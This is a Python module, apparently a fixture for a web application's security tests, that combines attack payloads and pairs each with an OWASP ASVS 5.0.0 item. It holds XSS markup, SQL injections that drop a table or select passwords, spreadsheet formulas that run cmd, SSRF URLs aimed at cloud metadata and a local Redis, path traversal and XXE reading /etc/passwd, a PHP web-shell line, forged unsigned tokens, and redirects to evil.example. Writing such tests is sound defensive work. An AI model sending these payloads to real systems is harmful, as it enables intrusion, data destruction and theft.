"""What attackers send, and the item of OWASP's Application Security Verification Standard (5.0.0) that it tries. Each
family is made of parts, so that a case is a combination that nobody had to think of."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import NamedTuple


class Attack(NamedTuple):
    """One case: its family, what is sent, and the item of the standard."""

    family: str
    payload: str
    item: str


BREAKS = ("", "]]>", "*/", "</style>", '">', "'>", "</textarea>", "</script>", "</title>", "-->", "` ")
"""Ways out of where a text may stand."""
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data=https://evil.example></object>",
    "<form action=https://evil.example><button>Sign in</button></form>",
    "<a href=javascript:alert(1)>here</a>",
    "<input autofocus onfocus=alert(1)>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://evil.example/?javascript:alert(1)",
    "https://durbar.example@evil.example/",
    'https://evil.example/" onmouseover=alert(1) x="',
)
QUERIES = (
    "' OR '1'='1",
    "'; DROP TABLE threads_thread; --",
    "1) UNION SELECT password FROM accounts_user --",
    "%' AND 1=(SELECT 1/0) --",
    "\\'; SELECT pg_sleep(5); --",
    "* OR tsquery:*",
    "a & ! | ( b",
    "a:*&'",
)
SEARCHED = ("search", "department", "state", "view", "assignee", "ordering", "page", "page_size")
FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)")
CALLS = (
    '=HYPERLINK("https://evil.example")',
    "=cmd|' /C calc'!A0",
    "@IMPORTXML(A1)",
    "+DDE(1)",
    "-2+3+cmd|' /C x'!A0",
)
AWAY = (
    "https://evil.example/",
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "\\\\evil.example",
    "https:evil.example",
    "http:///evil.example",
    "javascript:alert(1)",
    "data:text/html,x",
    "/%09/evil.example",
    "/\t/evil.example",
    "https://testserver@evil.example/",
    "https://testserver.evil.example/",
    "https://evil.example/testserver",
    "\x01https://evil.example",
    "h\nttps://evil.example",
)
INSIDE = (
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:6379/",
    "http://localhost/",
    "http://[::1]/",
    "http://0.0.0.0/",
    "http://2130706433/",
    "http://0x7f.1/",
    "http://10.0.0.1/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "ftp://127.0.0.1/",
    "https://player.vimeo.com@127.0.0.1/",
    "https://player.vimeo.com.evil.example/",
    "https://127.0.0.1#@player.vimeo.com/",
    "https://player.vimeo.com:8443/",
    "http://player.vimeo.com/",
    "https://user:pw@player.vimeo.com/",
    "https://evil.example/https://player.vimeo.com/",
    "https://player.vimeo.com\\@evil.example/",
    "//player.vimeo.com/1",
)
HOSTS = (
    "evil.example",
    "testserver.evil.example",
    "evil.example:80",
    "testserver@evil.example",
    "localhost.evil.example",
    "127.0.0.1.evil.example",
    "[::ffff:127.0.0.1].evil.example",
    "te st",
    "testserver/evil",
    "testserver\\evil",
    "testserver?x",
    "<script>",
    "a" * 300,
    "-",
)
LINES = (
    "\r\nX-Evil: 1",
    "\nX-Evil: 1",
    "\r\n\r\n<script>alert(1)</script>",
    "%0d%0aX-Evil:%201",
    "\x0bX-Evil: 1",
    "\u2028X-Evil: 1",
)
PLACES = ("../", "..%2f", "%2e%2e/", "..\\", "..%5c", "%252e%252e/", "....//", "/", "%00../", "..;/")
FILES = ("etc/passwd", "engagement/config/settings.py", "var/secret")
TEMPLATES = (
    "{{7*7}}",
    "{% load log %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "%(password)s",
    "{name.__globals__}",
)
SIGNS = (
    "\x00",
    "\x1b[31m",
    "\u202eevil",
    "\u200b" * 50,
    "\ufeff",
    "e\u0301" * 200,
    "\U000e0041",
    "🏴" * 100,
    "﷽" * 200,
)
NUMBERS = ("-1", "0", "9223372036854775808", "1e9", "0x1", "1.5", "٣", "NaN", "1%00", "' OR 1=1")
METHODS = ("TRACE", "CONNECT", "PROPFIND", "DEBUG", "get", "PURGE")
TOKENS = (
    "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIiwiZXhwIjo5OTk5OTk5OTk5fQ.",
    "eyJhbGciOiJOb25lIn0.eyJzdWIiOiIxIiwiZXhwIjo5OTk5OTk5OTk5fQ.",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIiwiZXhwIjo5OTk5OTk5OTk5fQ.",
    "eyJhbGciOiJIUzI1NiIsImtpZCI6Ii4uLy4uL2Rldi9udWxsIn0.eyJzdWIiOiIxIiwiZXhwIjo5OTk5OTk5OTk5fQ.e30",
    "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIiwiZXhwIjo5OTk5OTk5OTk5fQ.AAAA",
    "..",
    "a.b.c",
    "",
    "x" * 8000,
)
RESETS = {
    "6.3.8": ("0-{good}", "-1-{good}", "zzzzzzzzzzzzz-{good}", "{theirs}%00-{good}", "٣-{good}"),
    "6.4.3": (
        *("{mine}-{good}", "{theirs}-{my_key}", "{another}-{good}", "{theirs}-{their_key}"),
        *("{theirs}-", "{theirs}-0", "{theirs}-{good}{good}", "{good}", "-{good}"),
    ),
    "6.5.1": ("{theirs}-{used}", "{theirs}-{before_that}", "{theirs}-{to_another_address}"),
    "6.5.5": ("{theirs}-{old}", "{theirs}-{old_of_now}", "{theirs}-{old_of_tomorrow}"),
    "6.6.2": ("{theirs}-set-password", "{another}-set-password"),
    "9.1.1": (
        *("{theirs}-{without_proof}", "{theirs}-{cut}", "{theirs}-{longer}", "{theirs}-{of_another_sign}"),
        *("{theirs}-{of_another_time}", "{theirs}-{of_another_secret}"),
    ),
}
"""Item -> the last part of the link in a letter about a forgotten password, WHOSE-KEY: as somebody makes it who
has an account, a good link for that, and whatever was once good for another. `tests.security.links` has the names."""
BODIES = (
    "[" * 2000,
    '{"a":' * 2000,
    '{"title": "' + "x" * 1_000_000 + '"}',
    '{"title": 1e400}',
    '{"title": ' + "9" * 5000 + "}",
    '{"title": NaN}',
    '{"a": 1, "a": 2',
    "\xff\xfe",
    "null",
    "[]",
    '"title"',
    "",
    '{"__proto__": {"is_staff": true}}',
    '{"title": {"$gt": ""}}',
)

SIGNATURES = ("", "\xff\xd8\xff\xe0", "\x89PNG\r\n\x1a\n", "RIFF\x40\x00\x00\x00WEBP", "GIF89a", "\xef\xbb\xbf")
"""How a file begins, a character for a byte: as a picture, or as what is none."""
INNARDS = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<?php system($_GET['c']); ?>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><svg>&y;</svg>",
    "push graphic-context\nviewbox 0 0 1 1\nimage over 0,0 0,0 'https://evil.example/x'\npop graphic-context",
    "%!PS\n(/etc/passwd) (r) file",
    "PK\x03\x04" + "\x00" * 60,
    "\x7fELF\x02\x01\x01" + "\x00" * 60,
)
SIDES = ("100000x100000", "2147483647x2147483647", "65500x65500", "5001x5000", "25000001x1", "1x25000001")
"""What a file of some bytes promises to be."""


def _families() -> Iterator[tuple[str, str, Iterator[str]]]:
    """(family, item, payloads)."""
    yield "markup", "1.2.1", ("".join(parts) for parts in product(BREAKS, MARKUP))
    yield "address", "1.2.2", iter(ADDRESSES)
    yield "query", "1.2.4", (f"{name}={value}" for name, value in product(SEARCHED, QUERIES))
    yield "formula", "1.2.10", iter(FORMULAS + CALLS)
    yield "inside", "1.3.6", iter(INSIDE)
    yield "template", "1.3.7", iter(TEMPLATES)
    yield "letter", "1.3.11", iter(LINES)
    yield "away", "3.7.2", (f"{field} {value}" for field, value in product(("next", "back"), AWAY))
    yield "host", "4.1.3", iter(HOSTS)
    yield "method", "4.1.4", iter(METHODS)
    yield "line", "4.2.4", iter(LINES)
    yield "file", "5.2.2", ("".join(parts) for parts in product(SIGNATURES, INNARDS))
    yield "pixel", "5.2.6", iter(SIDES)
    yield "place", "5.3.2", ("".join(parts) for parts in product(PLACES, FILES))
    yield "sign", "2.2.1", iter(SIGNS)
    yield "number", "2.2.1", iter(NUMBERS)
    yield "token", "9.1.1", iter(TOKENS)
    yield from (("reset", item, iter(links)) for item, links in RESETS.items())
    yield "body", "15.2.2", iter(BODIES)
    yield "log", "16.4.1", iter(LINES)


def attacks(family: str = "") -> list[Attack]:
    """All of a family, or all."""
    found = [Attack(name, payload, item) for name, item, payloads in _families() for payload in payloads]
    return [one for one in found if not family or one.family == family]
